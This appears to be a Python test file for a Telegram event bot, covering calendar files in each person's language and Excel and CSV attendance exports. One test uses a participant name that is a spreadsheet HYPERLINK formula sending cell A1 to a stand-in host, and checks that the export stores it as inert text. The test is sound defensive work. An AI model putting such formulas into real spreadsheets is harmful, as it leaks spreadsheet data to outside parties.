"""Files organisers and participants open elsewhere: calendar files labelled in the person's
language, exports that open right in Excel (CSV with a BOM, or .xlsx)."""

from __future__ import annotations

import asyncio
import io
import os
import sys
import zipfile
from datetime import datetime, timedelta
from pathlib import Path

import icalendar
from openpyxl import load_workbook

from bot.attendance import CSV_COLUMNS
from sandbox.harness import Member, Rehearsal
from storage.roles import Role
from storage.visits import Visit
from tests.test_agenda import DEMO_AGENDA
from tests.test_checkins import START, STUDIO, add_sessions, batik, north_of

ROOT = Path(__file__).resolve().parents[1]


async def test_every_label_in_a_calendar_file_follows_the_persons_language(
    telegram: Rehearsal, visit: Visit, organiser: Member, rani: Member
):
    await organiser.send_document("agenda.yaml", DEMO_AGENDA)
    emma = await telegram.join("Emma", Role.PARTNER, visit.id, language="en")
    descriptions = {}
    for person in (rani, emma):
        await person.send("/agenda ics")
        document = (await person.last_message()).document
        assert document is not None
        events = icalendar.Calendar.from_ical(document).walk("VEVENT")
        descriptions[person] = "\n".join(str(e.get("DESCRIPTION", "")) for e in events)
    assert "Busana: PDH / batik lengan panjang" in descriptions[rani]
    assert "Dress code" not in descriptions[rani]
    assert "Dress code: PDH / batik lengan panjang" in descriptions[emma]
    assert "Busana" not in descriptions[emma]


async def test_attendance_as_xlsx_keeps_accents_text_and_jakarta_times(
    telegram: Rehearsal, visit: Visit, organiser: Member, database: Path, tmp_path: Path
):
    await add_sessions(telegram, visit, batik(audience="role:participant"))
    amelie = await telegram.join("Amélie", Role.PARTICIPANT, visit.id, last_name="Dupré")
    formula = '=HYPERLINK("http://x.example/?"&A1,"ok")'
    await telegram.join(formula, Role.PARTICIPANT, visit.id)
    await telegram.move_clock_to(START - timedelta(minutes=5))  # 08:55 in Jakarta
    await amelie.share_location(*north_of(STUDIO, 20))

    await organiser.send("/export attendance excel")
    sent = await organiser.last_message()
    assert sent.filename == "attendance-banyuwangi-2025.xlsx" and sent.document is not None
    sheet = load_workbook(io.BytesIO(sent.document)).active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    assert header == CSV_COLUMNS and all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref
    rows = {row[4].value: row for row in sheet.iter_rows(min_row=2)}
    assert set(rows) == {"Amélie Dupré", formula}
    amelie_row, formula_row = rows["Amélie Dupré"], rows[formula]
    column = {name: i for i, name in enumerate(header)}
    # Real date-times, the wall clock in Jakarta (Excel has no zones).
    start = amelie_row[column["session_start"]]
    assert start.is_date and start.value == datetime(2025, 10, 29, 9, 0)
    assert start.number_format == "yyyy-mm-dd hh:mm"
    checked = amelie_row[column["checked_in_at"]]
    assert checked.is_date and checked.value == datetime(2025, 10, 29, 8, 55)
    assert amelie_row[column["distance_m"]].value == 20
    assert formula_row[column["checked_in_at"]].value is None
    # The formula-looking name is text: stored as a string, exactly as typed, no quote added.
    name = formula_row[column["name"]]
    assert name.data_type == "s" and name.value == formula
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(sent.document)).read("xl/worksheets/sheet1.xml")
    assert sheet.column_dimensions["E"].width >= len(formula)

    # The CSV carries a BOM, so Excel reads Amélie as Amélie.
    await organiser.send("/export attendance")
    as_csv = (await organiser.last_message()).document
    assert as_csv is not None and as_csv.startswith(b"\xef\xbb\xbf")
    assert "Amélie Dupré,,participant,present,location,2025-10-29 08:55:00,20" in as_csv.decode(
        "utf-8-sig"
    )

    # The command line writes the same workbook.
    output = tmp_path / "attendance.xlsx"
    environment = {k: v for k, v in os.environ.items() if k.upper() != "BOT_TOKEN"}
    environment["DATABASE_PATH"] = str(database)
    process = await asyncio.create_subprocess_exec(
        sys.executable,
        *("-m", "bot", "export", "attendance", "--visit", visit.slug, "--output", str(output)),
        cwd=ROOT,
        env=environment,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )
    _, errors = await asyncio.wait_for(process.communicate(), timeout=60)
    assert process.returncode == 0, errors.decode()
    from_cli = load_workbook(output).active
    assert from_cli is not None
    assert list(from_cli.values) == list(sheet.values)
